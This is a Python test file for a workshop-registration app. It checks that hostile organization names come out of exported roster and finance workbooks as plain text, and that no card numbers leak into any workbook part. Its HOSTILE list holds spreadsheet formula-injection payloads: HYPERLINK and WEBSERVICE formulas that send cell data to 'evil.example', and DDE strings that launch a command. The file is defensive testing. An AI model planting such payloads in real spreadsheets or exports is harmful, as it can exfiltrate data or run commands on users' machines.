"""What must never get into a workbook: formulas from imported names, and card data.

Hostile organization names come in through the real delegate import (CSV and xlsx),
are registered, and are exported; every part of every workbook is then scanned for the
demo's card numbers (plain, spaced, dashed) and for any Luhn-valid run of 13-19 digits.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from exportkit import participant, roster_data, xml_parts
from openpyxl import Workbook, load_workbook

from escadesk.app import AppConfig, Services, build_services
from escadesk.domain.cards import contains_card_number
from escadesk.domain.registration_form import RegistrationDetails
from escadesk.exports.cells import FORMULA_STARTS, is_phone_like
from escadesk.exports.roster import write_roster
from escadesk.services.clock import FixedClock
from escadesk.services.demo import DEMO_PASSPHRASE, DEMO_TODAY, announcement_workshop, seed_demo
from escadesk.vault.kdf import fast_test_params
from escadesk.vault.keychain import MemoryKeychain

TORONTO = ZoneInfo("America/Toronto")
DECISION_DAY = datetime(2018, 10, 2, 9, 0, tzinfo=TORONTO)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    '=WEBSERVICE("http://evil.example/"&B2)',
)

#: The demo's public test cards, as people write them.
DEMO_CARDS = {
    "4111111111111111": (4, 4, 4, 4),
    "5555555555554444": (4, 4, 4, 4),
    "378282246310005": (4, 6, 5),
    "6011111111111117": (4, 4, 4, 4),
}


def _forms(number: str, groups: tuple[int, ...]) -> list[str]:
    parts, start = [], 0
    for size in groups:
        parts.append(number[start : start + size])
        start += size
    return [number, " ".join(parts), "-".join(parts)]


CANARIES = [form for number, groups in DEMO_CARDS.items() for form in _forms(number, groups)]


def _services(folder: Path) -> Services:
    return build_services(
        AppConfig.resolve(folder),
        clock=FixedClock(DEMO_TODAY),
        keychain=MemoryKeychain(),
        kdf_profile=fast_test_params,
    )


def _delegate_rows() -> list[tuple[str, str, str, str]]:
    return [
        (f"hostile{n}@clusters.example", f"=Contact({n})", name, "Canada")
        for n, name in enumerate(HOSTILE, start=1)
    ]


def _write_csv(path: Path) -> Path:
    with path.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(["E-mail", "Name", "Organization", "Country"])
        writer.writerows(_delegate_rows())
    return path


def _write_xlsx(path: Path) -> Path:
    book = Workbook()
    sheet = book.active
    sheet.append(["E-mail", "Name", "Organization", "Country"])
    for row in _delegate_rows():
        sheet.append(row)
    for cells in sheet.iter_rows(min_row=2):
        for cell in cells:
            cell.data_type = "s"  # text that merely looks like a formula, as users type it
    book.save(path)
    return path


@pytest.fixture(params=["csv", "xlsx"])
def hostile_exports(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[list[Path]]:
    """Roster and finance workbooks of a workshop whose names came in hostile."""
    services = _services(tmp_path / "data")
    try:
        workshop = services.workshops.create(announcement_workshop())
        source = tmp_path / f"delegates.{request.param}"
        (_write_csv if request.param == "csv" else _write_xlsx)(source)
        preview = services.delegates.preview(workshop, source)
        assert preview.problems == () and len(preview.records) == len(HOSTILE)
        services.delegates.commit(preview)
        for record in preview.records:
            assert record.organization in HOSTILE  # the import kept the text as it was
            rid = services.registrations.register(
                workshop,
                RegistrationDetails(
                    organization=record.organization or "",
                    country=record.country or "",
                    technology_area="ICT",
                    contact_name=record.name or "",
                    contact_email=record.email,
                    contact_title="-Manager",
                    contact_phone="+1 416 555 0100",
                ),
            )
            services.registrations.record_form(rid)
            services.registrations.record_authorization(rid)
        out = tmp_path / "out"
        out.mkdir()
        yield [
            services.exports.roster(workshop, out / "roster.xlsx"),
            services.exports.finance(workshop, out / "finance.xlsx"),
        ]
    finally:
        services.close()


def test_hostile_names_are_text_and_never_formulas(hostile_exports: list[Path]) -> None:
    seen_hostile = 0
    for path in hostile_exports:
        book = load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        # Only the finance summary's own totals are formulas.
                        assert sheet.title == "Summary", (sheet.title, cell.coordinate)
                        assert re.fullmatch(
                            r"=(SUM\(Charges!\w+:\w+\)|B\d+\+B\d+-B\d+)", cell.value
                        )
                        continue
                    if not isinstance(cell.value, str):
                        continue
                    text = cell.value
                    assert not (text.startswith(FORMULA_STARTS) and not is_phone_like(text)), (
                        sheet.title,
                        cell.coordinate,
                        text,
                    )
                    if text.startswith("'") and text[1:] in HOSTILE:
                        seen_hostile += 1
                        assert cell.data_type == "s"
    # Every name shows up neutralised: roster Participants and Programme, finance Charges.
    assert seen_hostile == 3 * len(HOSTILE)
    parts = xml_parts(hostile_exports[0])
    for name, text in parts.items():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in text, name


def test_no_card_data_in_any_part_of_any_workbook(tmp_path: Path) -> None:
    """The demo after its decision: charged (card kept for 7 days, then at once), a
    card still in the vault, erased ones; plus a large roster of varied date-times."""
    services = _services(tmp_path / "data")
    out = tmp_path / "out"
    out.mkdir()
    try:
        workshop = seed_demo(services, vault_passphrase=DEMO_PASSPHRASE)
        before = [
            services.exports.roster(workshop, out / "before-roster.xlsx"),
            services.exports.finance(workshop, out / "before-finance.xlsx"),
        ]
        ids = {r.organization: r.id for r in services.registrations.list(workshop)}
        services.registrations.record_authorization(ids["Andes AgriFood Alliance"])
        clock = services.clock
        assert isinstance(clock, FixedClock)
        clock.set(DECISION_DAY)
        services.decision.confirm(workshop, DEMO_PASSPHRASE)
        services.charging.set_retention_days(7)
        services.charging.record_charge(
            ids["Baltic Maritime Innovation Network"], date(2018, 10, 2), "APPROVAL 5521"
        )
        services.charging.set_retention_days(0)
        services.charging.record_charge(
            ids["Northshore Photonics Cluster"], date(2018, 10, 2), "APPROVAL 884213"
        )
        services.decision.erase_cancelled(workshop)
        masked = services.vault.masked(workshop)
        assert ids["Baltic Maritime Innovation Network"] in masked  # still in the vault
        after = [
            services.exports.roster(workshop, out / "after-roster.xlsx"),
            services.exports.finance(workshop, out / "after-finance.xlsx"),
        ]
    finally:
        services.close()
    start = datetime(2018, 9, 1, 0, 0, 7, tzinfo=TORONTO)
    many = tuple(
        participant(
            n, completed_at=start + timedelta(minutes=37 * n, seconds=n), waitlist_position=n
        )
        for n in range(1, 2001)
    )
    large = write_roster(roster_data(0, many), out / "large-roster.xlsx")

    workbooks = [*before, *after, large]
    for path in workbooks:
        for name, text in xml_parts(path).items():
            for canary in CANARIES:
                assert canary not in text, f"{path.name}:{name} holds a demo card number"
            assert not contains_card_number(text), f"{path.name}:{name} holds a Luhn-valid run"
        assert not contains_card_number(path.name)
    # The masked forms are there: brand and last four only.
    finance = xml_parts(after[1])["xl/worksheets/sheet2.xml"]
    assert "VISA •••• 1111" in finance and "Mastercard •••• 4444" in finance
